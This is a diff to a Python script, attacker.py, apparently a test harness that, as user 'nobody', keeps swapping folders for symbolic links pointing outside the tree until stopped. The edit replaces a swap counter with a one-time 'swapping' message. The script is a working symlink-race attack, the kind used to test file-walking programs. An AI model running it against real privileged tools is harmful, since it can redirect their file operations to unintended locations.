@@ -1,8 +1,7 @@
 """As the user nobody, swap folders for links until SIGTERM: `python attacker.py FOLDER OUTSIDE`.
 
 Every folder that this user can rename, at any depth, becomes a link to the folder of the same
-place in OUTSIDE, is put back, and so on. Standard output says when it began, and how often it
-swapped.
+place in OUTSIDE, is put back, and so on. Standard output says when it began.
 """
 
 import os
@@ -17,16 +16,15 @@ def main() -> None:
     become_nobody()
     stopped: list[int] = []
     signal.signal(signal.SIGTERM, lambda number, _: stopped.append(number))
-    swaps = 0
+    began = False
     while not stopped:
         for place, names, _ in os.walk(folder):
             for name in names:
                 path = f"{place}/{name}"
-                swaps += swapped(path, outside + path.removeprefix(folder))
-                if swaps == 1:
+                if swapped(path, outside + path.removeprefix(folder)) and not began:
+                    began = True
                     sys.stdout.write("swapping\n")
                     sys.stdout.flush()
-    sys.stdout.write(f"{swaps}\n")
 
 
 def become_nobody() -> None:
@@ -36,13 +34,13 @@ def become_nobody() -> None:
     os.setuid(user.pw_uid)
 
 
-def swapped(path: str, target: str) -> int:
+def swapped(path: str, target: str) -> bool:
     """Let a link take the place of a folder for a moment; return whether that was possible."""
     aside = f"{path}.aside"
     try:
         os.rename(path, aside)  # noqa: PTH104 - pathlib would take longer
     except OSError:
-        return 0
+        return False
     with suppress(
         OSError
     ):  # the other side made or removed something: the more confusion, the better
@@ -50,7 +48,7 @@ def swapped(path: str, target: str) -> int:
         os.unlink(path)  # noqa: PTH108 - the same
     with suppress(OSError):  # the same
         os.rename(aside, path)  # noqa: PTH104 - the same
-    return 1
+    return True
 
 
 if __name__ == "__main__":
